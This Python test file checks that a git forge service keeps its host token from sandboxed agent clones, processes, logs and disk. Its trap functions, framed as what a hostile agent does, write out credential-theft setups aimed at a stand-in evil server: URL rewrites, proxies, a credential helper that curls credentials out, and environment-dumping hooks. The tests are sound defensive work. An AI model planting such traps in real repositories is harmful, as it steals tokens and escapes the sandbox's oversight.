"""Where a token could get lost, row by row: traps in the repository, the process list, environments, settings on disk, logs, the sandbox."""

import base64
import logging
import os
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from shopfloor.forges.connections import Connections
from shopfloor.forges.mirrors.lending import lent
from shopfloor.forges.mirrors.sources import tokens
from shopfloor.forges.rules import address
from shopfloor.forges.service import Repositories
from shopfloor.kit.config import ForgeSettings
from shopfloor.kit.errors import Problem
from tests.forges.conftest import PROTOCOLS
from tests.forges.support import Sandbox, bare, repository
from tests.support import git_http
from tests.support.platform import git

SECRET = "s3cret-token-of-the-host"
NEEDLES = (SECRET.encode(), base64.b64encode(f"x-access-token:{SECRET}".encode()))


@pytest.fixture
def good(tmp_path: Path) -> Iterator[git_http.GitServer]:
    root = tmp_path / "good"
    root.mkdir()
    bare(repository(tmp_path / "work"), root / "r.git")
    with git_http.serving(root) as server:
        server.rights = {SECRET: "rw"}
        yield server


@pytest.fixture
def evil(tmp_path: Path) -> Iterator[git_http.GitServer]:
    """Another host that asks everybody for credentials, and remembers them."""
    root = tmp_path / "evil"
    root.mkdir()
    with git_http.serving(root) as server:
        server.rights = {"nobody": "rw"}
        yield server


@pytest.fixture
def house(tmp_path: Path, good: git_http.GitServer, monkeypatch: pytest.MonkeyPatch) -> Repositories:
    monkeypatch.setenv("THE_TOKEN", SECRET)
    credentials = tokens({f"http://{good.host}": "THE_TOKEN"})
    return Repositories(tmp_path / "house", protocols=PROTOCOLS, credentials=credentials)


Trap = Callable[[Path, str, str], None]
"""What a hostile agent does to its own clone: (work tree, good address, evil address)."""


def instead_of(work: Path, good: str, evil: str) -> None:
    git("config", f"url.{evil}/.insteadOf", f"{good}/", cwd=work)


def proxy(work: Path, good: str, evil: str) -> None:
    git("config", "http.proxy", evil, cwd=work)
    git("config", f"http.{good}/.proxy", evil, cwd=work)
    git("config", "http.sslVerify", "false", cwd=work)


def push_url(work: Path, good: str, evil: str) -> None:
    git("remote", "add", "origin", f"{good}/r.git", cwd=work)
    git("config", "remote.origin.pushurl", f"{evil}/r.git", cwd=work)


def submodule(work: Path, good: str, evil: str) -> None:
    (work / ".gitmodules").write_text(f'[submodule "s"]\n\tpath = s\n\turl = {evil}/s.git\n')
    git("config", "submodule.recurse", "true", cwd=work)
    git("config", "push.recurseSubmodules", "on-demand", cwd=work)


def lfs(work: Path, good: str, evil: str) -> None:
    (work / ".lfsconfig").write_text(f"[lfs]\n\turl = {evil}/lfs\n")
    (work / ".gitattributes").write_text("*.bin filter=lfs diff=lfs merge=lfs -text\n")
    (work / "a.bin").write_text(f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize 5\n")


def helper(work: Path, good: str, evil: str) -> None:
    git("config", "credential.helper", f"!curl -s {evil}/stolen -d @- #", cwd=work)


def hook(work: Path, good: str, evil: str) -> None:
    script = work / ".git" / "hooks" / "pre-push"
    script.parent.mkdir(exist_ok=True)
    script.write_text(f"#!/bin/sh\nenv > {work}/../stolen\n")
    script.chmod(0o755)


async def worked(
    house: Repositories, url: str, place: Path, trap: Trap | None = None, evil: str = ""
) -> tuple[Sandbox, str]:
    base = await house.resolve(url)
    box = Sandbox(await house.golden(url, base.commit), place / "sandbox")
    if trap:
        trap(box.work, url.rpartition("/")[0], evil)
    head = box.commit()
    await house.import_bundle(url, box.bundle(), **box.request())
    return box, head


@pytest.mark.parametrize("trap", [instead_of, proxy, push_url, submodule, lfs, helper, hook])
async def test_a_trap_in_the_sandboxs_repository_gets_no_token(
    house: Repositories, good: git_http.GitServer, evil: git_http.GitServer, tmp_path: Path, trap: Trap
) -> None:
    box, head = await worked(house, good.url("r.git"), tmp_path, trap, f"http://{evil.host}")
    await house.push(good.url("r.git"), head, box.branch)
    assert SECRET in good.tokens_seen
    assert evil.requests == []
    assert not (tmp_path / "stolen").exists()


@pytest.mark.parametrize("trap", [submodule, lfs])
async def test_a_trap_in_the_origins_own_tree_gets_no_token(
    house: Repositories, good: git_http.GitServer, evil: git_http.GitServer, tmp_path: Path, trap: Trap
) -> None:
    clone = tmp_path / "person"
    git("clone", "-q", str(tmp_path / "good" / "r.git"), str(clone), cwd=tmp_path)
    trap(clone, f"http://{good.host}", f"http://{evil.host}")
    git("-c", "filter.lfs.clean=cat", "add", "-A", cwd=clone)
    git("commit", "-qm", "trap", cwd=clone)
    git("push", "-q", "origin", "main", cwd=clone)
    await worked(house, good.url("r.git"), tmp_path)
    assert evil.requests == []


@pytest.mark.parametrize("during", ["fetch", "push"])
async def test_a_redirection_gets_no_token(
    house: Repositories, good: git_http.GitServer, evil: git_http.GitServer, tmp_path: Path, during: str
) -> None:
    url = good.url("r.git")
    box, head = await worked(house, url, tmp_path)
    good.redirect = f"http://{evil.host}"
    with pytest.raises(Problem):
        await (house.sync(url) if during == "fetch" else house.push(url, head, box.branch))
    assert evil.requests == []


async def test_a_token_for_https_is_not_shown_over_plain_http(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever can ask for work names the address; on the way of plain http everybody reads along."""
    monkeypatch.setenv("FORGE_WRITER", SECRET)
    found = Connections({"https://git.example.org": ForgeSettings(kind="forgejo", token_env="FORGE_WRITER")})
    assert await found.credential(address("http://git.example.org/a/b")) is None
    assert await found.credential(address("https://git.example.org/a/b")) is not None


async def test_the_servers_own_git_settings_lend_nothing(
    house: Repositories,
    good: git_http.GitServer,
    evil: git_http.GitServer,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / ".gitconfig").write_text(
        f'[url "http://{evil.host}/"]\n\tinsteadOf = http://{good.host}/\n[http]\n\tproxy = http://{evil.host}\n'
    )
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    await house.resolve(good.url("r.git"))
    assert evil.requests == []


def everything_of(pid: str) -> tuple[bytes, bytes]:
    """A process's command line and environment; nothing when it is gone."""
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes(), Path(f"/proc/{pid}/environ").read_bytes()
    except OSError:
        return b"", b""


async def while_pushing(house: Repositories, good: git_http.GitServer, place: Path) -> list[tuple[bytes, bytes]]:
    """Every process of this machine, looked at while git waits for the server's answer to a push."""
    url = good.url("r.git")
    box, head = await worked(house, url, place)
    seen: list[tuple[bytes, bytes]] = []
    real = good.other

    def looking(method: str, target: str, headers: dict[str, str], body: bytes) -> git_http.Said | None:
        if "git-receive-pack" in target:
            seen.extend(everything_of(pid) for pid in os.listdir("/proc") if pid.isdigit())
        return real(method, target, headers, body)

    good.other = looking  # type: ignore[method-assign]
    await house.push(url, head, box.branch)
    assert any(b"push" in line and b"git" in line for line, _ in seen)
    return seen


async def test_no_command_line_of_any_process_shows_the_token(
    house: Repositories, good: git_http.GitServer, tmp_path: Path
) -> None:
    seen = await while_pushing(house, good, tmp_path)
    assert not [line for line, _ in seen if any(needle in line for needle in NEEDLES)]


async def test_only_gits_own_processes_hold_the_token(
    house: Repositories, good: git_http.GitServer, tmp_path: Path
) -> None:
    """Their environments, which only the server's own user may read and no sandbox can see."""
    seen = await while_pushing(house, good, tmp_path)
    holders = {line.split(b"\0")[0].rpartition(b"/")[2] for line, held in seen if NEEDLES[1] in held}
    assert {name for name in holders if not name.startswith(b"git")} == set()


def add_with_own_settings(clone: Path) -> None:
    subprocess.run(("git", "add", "-A"), cwd=clone, check=True)


async def test_an_lfs_client_of_the_server_is_never_run(
    house: Repositories, good: git_http.GitServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where an administrator ran `git lfs install`, a hostile `.lfsconfig` would be asked with git's own credentials."""
    programs, home = tmp_path / "programs", tmp_path / "home"
    programs.mkdir()
    home.mkdir()
    (programs / "git-lfs").write_text(f"#!/bin/sh\nenv > {tmp_path}/ran\ncat\n")
    (programs / "git-lfs").chmod(0o755)
    lines = (f"{name} = git-lfs {name} -- %f" for name in ("clean", "smudge"))
    (home / ".gitconfig").write_text('[filter "lfs"]\n\t' + "\n\t".join((*lines, "required = true")) + "\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
    clone = tmp_path / "person"
    git("clone", "-q", str(tmp_path / "good" / "r.git"), str(clone), cwd=tmp_path)
    lfs(clone, f"http://{good.host}", "http://127.0.0.1:9")
    add_with_own_settings(clone)
    git("commit", "-qm", "large files", cwd=clone)
    git("push", "-q", "origin", "main", cwd=clone)
    (tmp_path / "ran").unlink()  # the person's own git did run it: the trap is real
    url = good.url("r.git")
    box, head = await worked(house, url, tmp_path)
    await house.push(url, head, box.branch)
    assert not (tmp_path / "ran").exists()


async def test_nothing_on_disk_holds_the_token(house: Repositories, good: git_http.GitServer, tmp_path: Path) -> None:
    url = good.url("r.git")
    box, head = await worked(house, url, tmp_path)
    await house.push(url, head, box.branch)
    written = [path for path in tmp_path.rglob("*") if path.is_file() and not path.is_symlink()]
    assert written
    assert not [path for path in written if any(needle in path.read_bytes() for needle in NEEDLES)]


async def test_the_sandboxs_repository_knows_no_address_to_push_to(
    house: Repositories, good: git_http.GitServer, tmp_path: Path
) -> None:
    box, _ = await worked(house, good.url("r.git"), tmp_path)
    assert git("remote", cwd=box.work) == ""
    settings = git("config", "--local", "--list", cwd=box.work)
    assert "extraheader" not in settings.lower()
    assert good.host not in settings


async def test_what_an_agent_is_lent_at_the_git_gate_knows_neither_token_nor_address(
    house: Repositories, good: git_http.GitServer, tmp_path: Path
) -> None:
    url = good.url("r.git")
    box, head = await worked(house, url, tmp_path)
    place = house.place(url)
    async with lent(place, branch=box.branch, base_branch="main", base_commit=box.base, tip=head) as view:
        held = [path.read_bytes() for path in view.folder.rglob("*") if path.is_file()] + [await view.offered()]
    assert any(head.encode() in one for one in held)
    assert not [one for one in held if any(needle in one for needle in (*NEEDLES, good.host.encode()))]


@pytest.mark.parametrize("right", ["expired", "ro"])
async def test_what_is_said_and_logged_of_a_refused_push_holds_no_token(
    house: Repositories,
    good: git_http.GitServer,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    right: str,
) -> None:
    for variable in ("GIT_TRACE", "GIT_TRACE2", "GIT_TRACE_CURL", "GIT_CURL_VERBOSE"):
        monkeypatch.setenv(variable, "1")
    caplog.set_level(logging.DEBUG)
    url = good.url("r.git")
    box, head = await worked(house, url, tmp_path)
    good.rights[SECRET] = right
    with pytest.raises(Problem) as refused:
        await house.push(url, head, box.branch)
    printed = capfd.readouterr()
    told = f"{refused.value.document()} {refused.value.__cause__!r} {caplog.text} {printed.out} {printed.err}"
    assert SECRET not in told
    assert NEEDLES[1].decode() not in told


async def test_a_server_that_dies_in_the_middle_of_a_push_loses_nothing_and_learns_nothing_new(
    house: Repositories, good: git_http.GitServer, tmp_path: Path
) -> None:
    url = good.url("r.git")
    box, head = await worked(house, url, tmp_path)
    good.dies = "before"
    with pytest.raises(Problem):
        await house.push(url, head, box.branch)
    good.dies = ""
    await house.push(url, head, box.branch)
    assert git("rev-parse", box.branch, cwd=tmp_path / "good" / "r.git") == head


def test_the_traps_are_real(good: git_http.GitServer, evil: git_http.GitServer, tmp_path: Path) -> None:
    """A plain git with a header for everybody, in the agent's own clone, loses the token to `insteadOf`: our tests could fail."""
    work = repository(tmp_path / "naive")
    instead_of(work, f"http://{good.host}", f"http://{evil.host}")
    header = f"Authorization: Basic {NEEDLES[1].decode()}"
    argv = ("git", "-c", f"http.extraHeader={header}", "push", good.url("r.git"), "HEAD:refs/heads/x")
    subprocess.run(argv, cwd=work, capture_output=True, check=False, env={**os.environ, "GIT_TERMINAL_PROMPT": "0"})
    assert SECRET in evil.tokens_seen
